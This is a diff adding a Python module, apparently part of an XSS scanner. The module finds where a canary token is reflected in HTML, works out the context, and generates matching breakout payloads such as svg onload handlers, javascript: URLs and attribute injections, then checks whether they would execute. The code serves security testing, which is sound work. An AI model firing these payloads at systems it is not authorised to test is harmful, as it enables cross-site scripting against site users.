@@ -0,0 +1,404 @@
+import re
+import secrets
+from html.parser import HTMLParser
+
+# Sent right after the canary: which of these come back unescaped decides
+# which payloads can break out of the context the canary landed in
+PROBE = "'\"<>/"
+
+# Every built-in payload calls this, so a confirmed payload is easy to find in a
+# report; no quotes, so it survives pages that backslash-escape them
+MARKER = "alert(/xss_test/)"
+
+# Calls that prove execution: the built-in marker and the one in payloads/xss_payloads.txt.
+# Custom payloads without either are confirmed by their own code (see confirms)
+CALLS = (MARKER, "alert('xss_test')")
+
+URL_ATTRIBUTES = {'href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'srcdoc'}
+
+# Elements whose content is not parsed as markup until their end tag
+RAW_TEXT = {'script', 'style', 'title', 'textarea', 'xmp', 'noscript'}
+
+# <script> types a browser executes; anything else (JSON, templates...) is inert data
+JAVASCRIPT_TYPES = {
+    '', 'module', 'text/javascript', 'application/javascript', 'text/ecmascript',
+    'application/ecmascript', 'application/x-javascript', 'text/x-javascript', 'text/jscript'
+}
+
+# An escaped probe character: HTML entity, JS/CSS escape or URL encoding
+_ESCAPE = re.compile(r"&#?\w+;|\\(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|.)|%[0-9a-fA-F]{2}")
+
+
+def make_canary():
+    """Unique alphanumeric token: survives any encoding and never occurs in a page by chance"""
+    return f"xs{secrets.token_hex(5)}"
+
+
+def surviving(body, pos):
+    """Characters of PROBE that appear unescaped after the canary ending at pos"""
+    survived = set()
+    for char in PROBE:
+        if body.startswith(char, pos):
+            survived.add(char)
+            pos += 1
+            continue
+        escaped = _ESCAPE.match(body, pos)
+        if escaped:
+            pos = escaped.end()
+        # Otherwise the character was stripped; try the next one at the same place
+    return survived
+
+
+def js_state(code):
+    """
+    What is open at the end of JavaScript code: the quote of a string literal,
+    '//' or '/*' for a comment, or None in plain code (regex literals are not modelled)
+    """
+    state = None
+    i = 0
+    while i < len(code):
+        char = code[i]
+        if state == '//':
+            if char in '\n\r\u2028\u2029':
+                state = None
+        elif state == '/*':
+            if code.startswith('*/', i):
+                state = None
+                i += 1
+        elif state:
+            if char == '\\':
+                i += 1
+            elif char == state:
+                state = None
+        elif char in '\'"`':
+            state = char
+        elif code.startswith('//', i) or code.startswith('/*', i):
+            state = code[i:i + 2]
+            i += 1
+        i += 1
+    return state
+
+
+def is_javascript(attrs):
+    """Whether a <script> with these attributes runs, rather than holding a data block"""
+    script_type = (dict(attrs).get('type') or '').strip().lower()
+    return script_type in JAVASCRIPT_TYPES
+
+
+def _js_details(state, quote_key='quote'):
+    """Reflection details for the JavaScript state a token landed in"""
+    if state in ('//', '/*'):
+        return {quote_key: '', 'comment': state}
+    return {quote_key: state or '', 'comment': ''}
+
+
+class ReflectionParser(HTMLParser):
+    """
+    Tokenizes a page once and records where a token occurs: element text,
+    raw text (script, style, title...), comments and attribute values.
+    Event positions are mapped back to offsets in the raw body so the
+    characters that follow each reflection can be inspected unparsed.
+    """
+
+    def __init__(self, token):
+        super().__init__(convert_charrefs=False)
+        self.token = token
+        self.found = []
+        self.raw_tag = None
+        self.script_runs = False
+        self.lines = [0]
+
+    def analyze(self, body):
+        pos = body.find('\n')
+        while pos != -1:
+            self.lines.append(pos + 1)
+            pos = body.find('\n', pos + 1)
+        self.body = body
+        self.feed(body)
+        self.close()
+        return self.found
+
+    def _offset(self):
+        line, column = self.getpos()
+        return self.lines[line - 1] + column
+
+    def _add(self, context, pos, **details):
+        end = pos + len(self.token)
+        self.found.append({'context': context, 'offset': pos,
+                           'survived': surviving(self.body, end), **details})
+
+    def handle_starttag(self, tag, attrs):
+        self._attributes(tag, attrs)
+        if tag in RAW_TEXT:
+            self.raw_tag = tag
+            self.script_runs = tag == 'script' and is_javascript(attrs)
+
+    def handle_startendtag(self, tag, attrs):
+        self._attributes(tag, attrs)
+
+    def _attributes(self, tag, attrs):
+        raw = self.get_starttag_text() or ''
+        if self.token not in raw:
+            return
+        start = self._offset()
+        search = 0
+        for name, value in attrs:
+            if not value or self.token not in value:
+                continue
+            quoted = re.search(rf"(?<![\w-]){re.escape(name)}\s*=\s*([\"']?)", raw, re.IGNORECASE)
+            index = raw.find(self.token, search)
+            if index == -1:
+                # Entity-encoded in the markup; its position cannot be inspected
+                continue
+            search = index + 1
+            details = {}
+            if name.startswith('on'):
+                context = 'event'
+                details = _js_details(js_state(value[:value.find(self.token)]), 'string')
+            elif name in URL_ATTRIBUTES and value.strip().lower().startswith(self.token):
+                context = 'url'
+            else:
+                context = 'attribute'
+            self._add(context, start + index, tag=tag, attribute=name,
+                      quote=quoted.group(1) if quoted else '', **details)
+
+    def handle_endtag(self, tag):
+        if tag == self.raw_tag:
+            self.raw_tag = None
+
+    def handle_data(self, data):
+        index = data.find(self.token)
+        if index == -1:
+            return
+        start = self._offset()
+        while index != -1:
+            if self.raw_tag == 'script' and self.script_runs:
+                self._add('script', start + index, tag='script', **_js_details(js_state(data[:index])))
+            elif self.raw_tag:
+                self._add('rcdata', start + index, tag=self.raw_tag)
+            else:
+                self._add('text', start + index)
+            index = data.find(self.token, index + 1)
+
+    def handle_comment(self, data):
+        index = data.find(self.token)
+        start = self._offset() + len('<!--')
+        while index != -1:
+            self._add('comment', start + index)
+            index = data.find(self.token, index + 1)
+
+
+def find_reflections(body, token):
+    """
+    Every place token is reflected in body, in document order, as dicts with
+    'context' (text, rcdata, attribute, url, event, script or comment), 'offset',
+    'survived' (PROBE characters echoed unescaped after it) and, depending on
+    the context, 'tag', 'attribute', 'quote' (HTML attribute quote; JS string quote
+    for script), 'string' (JS string quote in an event handler) and 'comment'
+    ('//' or '/*' when inside a JS comment)
+    """
+    # Pages that do not reflect the token are not parsed at all
+    if token not in body:
+        return []
+    return ReflectionParser(token).analyze(body)
+
+
+def describe(reflection):
+    context = reflection['context']
+    if context in ('attribute', 'url', 'event'):
+        quote = {'"': 'double-quoted', "'": 'single-quoted'}.get(reflection['quote'], 'unquoted')
+        return f"{quote} {reflection['attribute']} attribute of <{reflection['tag']}>"
+    if context == 'script':
+        if reflection['comment']:
+            return "<script> comment"
+        return f"<script> {'string literal' if reflection['quote'] else 'code'}"
+    if context == 'rcdata':
+        return f"<{reflection['tag']}> content"
+    return {'text': 'HTML text', 'comment': 'HTML comment'}[context]
+
+
+def _context_payloads(reflection):
+    """(payload, characters that must survive) pairs that break out of the reflection's context"""
+    context = reflection['context']
+    quote = reflection.get('quote', '')
+    tag = reflection.get('tag', '')
+    if context == 'text':
+        return [(f"<svg onload={MARKER}>", '<>')]
+    if context == 'rcdata':
+        return [(f"</{tag}><svg onload={MARKER}>", '</>')]
+    if context == 'comment':
+        return [(f"--><svg onload={MARKER}>", '<>')]
+    if context == 'script':
+        breakout = (f"</script><svg onload={MARKER}>", '</>')
+        if reflection['comment']:
+            # Nothing in a comment runs; only leaving the script element helps
+            return [breakout]
+        if quote:
+            return [(f"{quote}-{MARKER}-{quote}", quote), breakout]
+        # Reflected where an expression is expected, e.g. var x = TOKEN;
+        return [(MARKER, ''), breakout]
+    if context == 'event':
+        if reflection['comment']:
+            return []
+        # The handler runs on the entity-decoded value, so an encoded quote still closes the string
+        string = reflection['string']
+        return [(f"{string}-{MARKER}-{string}", '')] if string else [(MARKER, '')]
+    payloads = []
+    if context == 'url':
+        payloads.append((f"javascript:{MARKER}", ''))
+    if quote:
+        payloads.append((f"{quote}><svg onload={MARKER}>", quote + '<>'))
+        payloads.append((f"{quote} autofocus onfocus={MARKER} x={quote}", quote))
+    else:
+        payloads.append((f"x onfocus={MARKER} autofocus", ''))
+    return payloads
+
+
+def _breakout(payload, reflection):
+    """
+    The characters that must survive for a generic payload to leave the
+    reflection's context, or None if it does not start by leaving it
+    """
+    context = reflection['context']
+    quote = reflection.get('quote', '')
+    if context == 'text' and payload.startswith('<'):
+        return '<>'
+    if context in ('rcdata', 'script') and payload.lower().startswith(f"</{reflection['tag']}"):
+        return '</>'
+    if context == 'comment' and payload.startswith('-->'):
+        return '<>'
+    if context in ('attribute', 'url') and quote and payload.startswith(quote + '>'):
+        return quote + '<>'
+    return None
+
+
+def payloads_for(reflection, extra=()):
+    """
+    Payloads that can execute from this reflection given the characters that
+    survived: built-in ones for the context, then the extra (custom) payloads
+    that start by breaking out of the same context. Custom payloads that hold
+    no script code (see payload_calls) are skipped: nothing could confirm them.
+    """
+    survived = reflection['survived']
+    chosen = [payload for payload, needs in _context_payloads(reflection) if set(needs) <= survived]
+    for payload in extra:
+        needs = _breakout(payload, reflection)
+        if (needs is not None and set(needs) <= survived and payload not in chosen
+                and payload_calls(payload)):
+            chosen.append(payload)
+    return chosen
+
+
+class _CodeParser(HTMLParser):
+    """Collects the script code of a payload: <script> bodies, event handlers and javascript: URLs"""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.in_script = False
+        self.code = []
+
+    def handle_starttag(self, tag, attrs):
+        for name, value in attrs:
+            if not value:
+                continue
+            if name.startswith('on'):
+                self.code.append(value.strip())
+            elif name in URL_ATTRIBUTES and value.strip().lower().startswith('javascript:'):
+                self.code.append(value.strip()[len('javascript:'):].strip())
+        self.in_script = tag == 'script' and is_javascript(attrs)
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+        self.in_script = False
+
+    def handle_endtag(self, tag):
+        self.in_script = False
+
+    def handle_data(self, data):
+        if self.in_script and data.strip():
+            self.code.append(data.strip())
+
+
+def payload_calls(payload):
+    """
+    The script code in a custom payload, e.g. 'prompt(document.domain)' for
+    <img src=x onerror=prompt(document.domain)>; empty if it has none
+    """
+    parser = _CodeParser()
+    parser.feed(payload)
+    parser.close()
+    if parser.in_script and parser.rawdata.strip():
+        # An unterminated <script> keeps its body buffered
+        parser.code.append(parser.rawdata.strip())
+    return tuple(code for code in parser.code if code)
+
+
+class _ExecutionParser(HTMLParser):
+    """Looks for one of the given calls in a place where a browser would run it"""
+
+    def __init__(self, calls):
+        super().__init__(convert_charrefs=True)
+        self.calls = calls
+        self.in_script = False
+        self.raw_tag = None
+        self.executes = False
+
+    def handle_starttag(self, tag, attrs):
+        if self.raw_tag:
+            # Markup inside <textarea>, <title>... is shown as text, never run
+            return
+        for name, value in attrs:
+            if not value or not any(call in value for call in self.calls):
+                continue
+            if name.startswith('on'):
+                self._code(value)
+            elif name in URL_ATTRIBUTES and value.strip().lower().startswith('javascript:'):
+                self.executes = True
+        self.in_script = tag == 'script' and is_javascript(attrs)
+        if tag in RAW_TEXT and tag != 'script':
+            self.raw_tag = tag
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+        self.in_script = False
+
+    def handle_endtag(self, tag):
+        if self.raw_tag and tag != self.raw_tag:
+            return
+        self.raw_tag = None
+        self.in_script = False
+
+    def handle_data(self, data):
+        if self.in_script:
+            self._code(data)
+
+    def _code(self, code):
+        """A call runs if it is outside every string literal and comment"""
+        for call in self.calls:
+            index = code.find(call)
+            while index != -1:
+                if js_state(code[:index]) is None:
+                    self.executes = True
+                index = code.find(call, index + 1)
+
+
+def executes(body, calls=CALLS):
+    """Whether one of calls (the marker calls by default) appears in body as code a browser would execute"""
+    if not any(call in body for call in calls):
+        return False
+    parser = _ExecutionParser(calls)
+    parser.feed(body)
+    parser.close()
+    return parser.executes
+
+
+def confirms(body, payload):
+    """
+    Whether a response shows payload running. Built-in payloads are found by
+    their marker call; a custom payload must come back verbatim, unescaped,
+    with its own script code in an executable position.
+    """
+    if any(call in payload for call in CALLS):
+        return executes(body)
+    calls = payload_calls(payload)
+    return bool(calls) and payload in body and executes(body, calls)